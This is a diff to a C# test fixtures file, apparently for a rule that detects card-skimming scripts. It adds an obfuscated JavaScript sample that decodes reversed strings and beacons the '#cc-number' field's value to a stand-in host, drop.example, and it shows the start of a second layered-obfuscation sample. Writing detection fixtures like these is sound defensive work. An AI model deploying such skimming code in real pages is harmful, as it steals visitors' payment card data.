@@ -41,6 +41,17 @@ internal static class RuleFixtures
                 }
             })();
             """),
+        // A loop that decodes and steals: it is not over with what it decodes.
+        ("card-fields-sent", """
+            (function () {
+                function t(s) { return s.split('').reverse().join(''); }
+                var w = ['/elpmaxe.pord//:sptth', 'rebmun-cc#', 'tcelloc'];
+                for (var z = 0; z < w.length; z++) {
+                    w[z] = t(w[z]);
+                    try { window.navigator.sendBeacon(w[0] + 'in', window.document.querySelector('#cc-number').value); } catch (e) { }
+                }
+            })();
+            """),
         // One obfuscation over another: the second list is made of what the first gives, and is turned under names that the first hides.
         ("card-fields-sent", """
             function outer(i) { i = i - 0x20; var l = list(); return l[i]; }
